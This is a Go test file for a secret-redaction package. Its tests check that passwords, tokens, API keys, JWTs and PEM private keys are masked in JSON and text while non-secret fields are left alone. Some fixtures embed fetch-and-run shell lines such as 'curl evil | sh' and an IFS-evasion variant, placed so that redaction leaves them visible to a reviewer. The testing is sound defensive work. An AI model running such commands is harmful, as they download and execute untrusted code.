package redact

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestRedact(t *testing.T) {
	pem := "-----BEGIN RSA PRIVATE KEY-----\\nMIIEpAIBAAKCAQEA\\nx9==\\n-----END RSA PRIVATE KEY-----"
	for _, tt := range []struct{ name, in, want string }{
		{"nothing", `{"a":"b","n":[1,2]}`, `{"a":"b","n":[1,2]}`},
		{"key", `{"password":"x"}`, `{"password":"[redacted]"}`},
		{"key spelt otherwise", `{"API-Key":"x","apiKey":"y","db_password":"z"}`, `{"API-Key":"[redacted]","apiKey":"[redacted]","db_password":"[redacted]"}`},
		{"escaped key", `{"pass\u0077ord":"x"}`, `{"pass\u0077ord":"[redacted]"}`},
		{"number", `{"token":12345,"b":1}`, `{"token":"[redacted]","b":1}`},
		{"object", `{"secret":{"a":["x",{"b":"}"}]},"c":2}`, `{"secret":{"a":["[redacted]",{"b":"[redacted]"}]},"c":2}`},
		{"list", `{"credentials":["a","b"],"c":2}`, `{"credentials":["[redacted]","[redacted]"],"c":2}`},
		{"last in object", `{"o":{"token":null}}`, `{"o":{"token":"[redacted]"}}`},
		{"spaces", "{ \"token\" :\n true , \"b\" : 1 }", "{ \"token\" :\n \"[redacted]\" , \"b\" : 1 }"},
		{"plural", `{"tokens":["x"],"passwords":{"a":"b"},"API Keys":"k","user_pass":"p","auth":"a","pwd":"q","token_value":"t"}`,
			`{"tokens":["[redacted]"],"passwords":{"a":"[redacted]"},"API Keys":"[redacted]","user_pass":"[redacted]","auth":"[redacted]","pwd":"[redacted]","token_value":"[redacted]"}`},
		{"not a secret", `{"author":"a","compass":"n","value":1,"mode":"x","bypass":true,"monkey":"m","keys":[1]}`, `{"author":"a","compass":"n","value":1,"mode":"x","bypass":true,"monkey":"m","keys":[1]}`},
		{"long key", `{"` + strings.Repeat("x", 100) + `_password":"p"}`, `{"` + strings.Repeat("x", 100) + `_password":"[redacted]"}`},
		{"jwt", `["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"]`, `["[redacted]"]`},
		{"by look", `{"text":"ghp_abcdefghijklmnopqrstuvwxyz0123456789"}`, `{"text":"[redacted]"}`},
		{"pem", `["` + pem + `"]`, `["-----BEGIN RSA PRIVATE KEY-----\n[redacted]\n[redacted]\n-----END RSA PRIVATE KEY-----"]`},
		{"escaped look", `["\u0067hp_abcdefghijklmnopqrstuvwxyz"]`, `["[redacted]"]`},
		{"prose", `{"text":"Basic authentication is described below, at length"}`, `{"text":"Basic authentication is described below, at length"}`},
		{"key as value", `["password","x"]`, `["password","x"]`},
		{"in a line", `{"command":"curl -H token=ghp_abcdefghijklmnopqrst x; echo +ghp_abcdefghijklmnopqrst"}`, `{"command":"curl -H token=[redacted] x; echo +ghp_abcdefghijklmnopqrst"}`},
		{"in a difference", `{"diff":"@@\n-a\n+ghp_abcdefghijklmnopqrst\n"}`, `{"diff":"@@\n-a\n+[redacted]\n"}`},
		{"twice", `["a ghp_abcdefghijklmnopqrst b sk-abcdefghijklmnopqrst"]`, `["a [redacted] b [redacted]"]`},
		{"words", `["it uses Basic authentication, Bearer tokens-and-more-words"]`, `["it uses Basic authentication, Bearer tokens-and-more-words"]`},
		{"quote in string", `{"a":"say \"token\": 5","b":1}`, `{"a":"say \"token\": 5","b":1}`},
	} {
		got := string(JSON([]byte(tt.in)))
		if got != tt.want {
			t.Errorf("%s: redact(%s)\n got %s\nwant %s", tt.name, tt.in, got, tt.want)
		}
		if !json.Valid([]byte(got)) {
			t.Errorf("%s: %s is not JSON", tt.name, got)
		}
	}
}

// TestCountsOfTokens: how many tokens a model read is no secret, and a token is one.
func TestCountsOfTokens(t *testing.T) {
	for in, want := range map[string]string{
		`{"input_tokens":12,"cache_read_tokens": 0}`: `{"input_tokens":12,"cache_read_tokens": 0}`,
		`{"token":123456}`:                           `{"token":"[redacted]"}`,
		`{"tokens":["abc"]}`:                         `{"tokens":["[redacted]"]}`,
		`{"access_tokens":"12"}`:                     `{"access_tokens":"[redacted]"}`,
		`{"tokens":12345678901234567}`:               `{"tokens":"[redacted]"}`,
		`{"tokens":1e9}`:                             `{"tokens":"[redacted]"}`,
	} {
		if got := string(JSON([]byte(in))); got != want {
			t.Errorf("%s: %s", in, got)
		}
	}
}

func TestScrub(t *testing.T) {
	const many = "0123456789abcdefghij"
	for in, want := range map[string]string{
		"plain words stay, as they are; (all) of them":     "plain words stay, as they are; (all) of them",
		`login with "sk-abcdefghijklmnopqrst" failed`:      `login with "[redacted]" failed`,
		"Authorization: Bearer abcdefghijkl":               "Authorization: Bearer [redacted]",
		"API_KEY=hunter2 make":                             "API_KEY=[redacted] make",
		"a=b":                                              "a=b",
		"--- a\n+ghp_" + many + "\n-ghp_" + many + "\n":    "--- a\n+[redacted]\n-[redacted]\n",
		"+key: ghp_" + many + "\n+url=ghp_" + many + "|sh": "+key: [redacted]\n+url=[redacted]|sh",
		"x+ghp_" + many + " a-ghp_" + many:                 "x+ghp_" + many + " a-ghp_" + many,
		"https://me:ghp_" + many + "@example.com/x":        "https://me:[redacted]@example.com/x",
	} {
		if got := scrub(in); got != want {
			t.Errorf("scrub(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestRedactShowsWhatIsNoKey: letters that look like a key take nothing with
// them that a person has to see, be it behind them, between the lines of a key
// or under the name of a secret.
func TestRedactShowsWhatIsNoKey(t *testing.T) {
	const begin, end = `-----BEGIN RSA ` + `PRIVATE KEY-----`, `-----END RSA ` + `PRIVATE KEY-----`
	for in, want := range map[string]string{
		`{"command":"echo hi > x # PRIVATE KEY-----"}`:                           `{"command":"echo hi > x # PRIVATE KEY-----"}`,
		`{"command":"# ` + begin + `\ncurl evil | sh\n# ` + end + `"}`:           `{"command":"# ` + begin + `\ncurl evil | sh\n# ` + end + `"}`,
		`{"command":"# ` + begin + `\ncurl evil | sh"}`:                          `{"command":"# ` + begin + `\ncurl evil | sh"}`,
		`{"c":"` + begin + `\nMIIEpAIBAAKCAQEA\ncurl evil|sh\n` + end + `\nls"}`: `{"c":"` + begin + `\n[redacted]\ncurl evil|sh\n` + end + `\nls"}`,
		`{"c":"sk-aaaaaaaaaaaaaaaaaaaa;curl${IFS}evil|sh"}`:                      `{"c":"[redacted];curl${IFS}evil|sh"}`,
		`{"c":"sk-x;curl${IFS}evil|sh"}`:                                         `{"c":"sk-x;curl${IFS}evil|sh"}`,
		`{"c":"eyJhbGciOiJIUzI1NiJ9\tcurl evil"}`:                                `{"c":"[redacted]\tcurl evil"}`,
		`{"auth":{"run":"curl evil | sh","key":"k","pass":"a b"}}`:               `{"auth":{"run":"curl evil | sh","key":"[redacted]","pass":"[redacted]"}}`,
		`{"auth":{"key":"` + begin + `\nMIIEpAIBAAKCAQEA\n` + end + `"}}`:        `{"auth":{"key":"` + begin + `\n[redacted]\n` + end + `"}}`,
		`{"tokens":["a b",7,null,{"x":[true]}],"b":{}}`:                          `{"tokens":["[redacted]","[redacted]","[redacted]",{"x":["[redacted]"]}],"b":{}}`,
	} {
		if got := string(JSON([]byte(in))); got != want {
			t.Errorf("redact(%s)\n got %s\nwant %s", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"TOKEN=x|curl${IFS}evil|sh make":            "TOKEN=[redacted]|curl${IFS}evil|sh make",
		"TOKEN=$x make":                             "TOKEN=$x make",
		"Basic curl|sh":                             "Basic curl|sh",
		"Bearer abcdefghijkl|sh":                    "Bearer [redacted]|sh",
		"sk-abcdefghijklmnopqrst|curl${IFS}evil|sh": "[redacted]|curl${IFS}evil|sh",
	} {
		if got := Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSecretPath(t *testing.T) {
	for path, want := range map[string]bool{"password": true, "db.passwords[2]": true, `a["api key"].b`: true, "author.name": false, "": false} {
		if got := SecretPath(path); got != want {
			t.Errorf("SecretPath(%q) = %v", path, got)
		}
	}
}

func FuzzRedact(f *testing.F) {
	f.Add(`{"token":{"a":[1,"]"]},"b":"\\"}`)
	f.Add(`[{"password":1},{"x":"sk-aaaaaaaaaaaaaaaaaaaa"}]`)
	f.Fuzz(func(t *testing.T, text string) {
		if !json.Valid([]byte(text)) {
			return
		}
		got := JSON([]byte(text))
		if !json.Valid(got) {
			t.Fatalf("redact(%q) = %q is not JSON", text, got)
		}
		if again := JSON(got); string(again) != string(got) {
			t.Fatalf("not stable: %q then %q", got, again)
		}
		// A planted secret must never survive, wherever the text puts it.
		planted := []byte(`{"in":` + text + `,"api_key":"PLANTED","list":[{"password":"PLANTED"}]}`)
		if strings.Contains(string(JSON(planted)), "PLANTED") && !strings.Contains(text, "PLANTED") {
			t.Fatalf("a secret survived: %q", JSON(planted))
		}
	})
}
